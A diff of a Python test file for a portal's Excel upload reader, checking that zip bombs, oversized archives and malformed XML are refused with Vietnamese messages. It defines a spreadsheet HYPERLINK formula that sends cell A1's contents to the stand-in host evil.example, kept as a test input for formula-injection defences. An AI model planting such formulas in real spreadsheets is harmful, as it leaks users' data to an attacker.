@@ -12,6 +12,7 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from portal import excel
+from tests.refusals import refused
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
@@ -97,14 +98,14 @@ def test_the_zip_bomb_is_refused_fast_with_memory_flat(bomb):
     assert len(bomb) < 1_000_000
     before = rss_bytes()
     started = time.perf_counter()
-    with pytest.raises(excel.WorkbookRefused) as refused:
+    with pytest.raises(excel.WorkbookRefused) as refusal:
         excel.read_workbook(io.BytesIO(bomb), max_rows=600)
     elapsed = time.perf_counter() - started
     grown = rss_bytes() - before
     assert elapsed < 1.0
     assert grown < 20 * 1024 * 1024, f"RSS grew by {grown // 1024} KB"
-    assert "nội dung giải nén là 800 MB, quá giới hạn 50 MB" in refused.value.message
-    assert "Chưa có dữ liệu nào được lưu" in refused.value.message
+    assert "nội dung giải nén là 800 MB, quá giới hạn 50 MB" in refusal.value.message
+    assert "Chưa có dữ liệu nào được lưu" in refusal.value.message
 
 
 def test_too_many_entries_are_refused(settings):
@@ -135,10 +136,11 @@ def broken_sheet_xml() -> io.BytesIO:
 
 
 def test_malformed_xml_is_refused_in_vietnamese():
-    with pytest.raises(excel.WorkbookRefused) as refused:
+    with refused("workbook_unreadable") as refusal:
         excel.read_workbook(broken_sheet_xml(), max_rows=10)
-    assert refused.value.message.startswith("Không đọc được tệp Excel:")
-    assert "XML" in refused.value.message
+    assert isinstance(refusal.value, excel.WorkbookRefused)
+    assert refusal.value.message.startswith("Không đọc được tệp Excel:")
+    assert "XML" in refusal.value.message
 
 
 def test_a_broken_archive_is_refused_in_vietnamese():
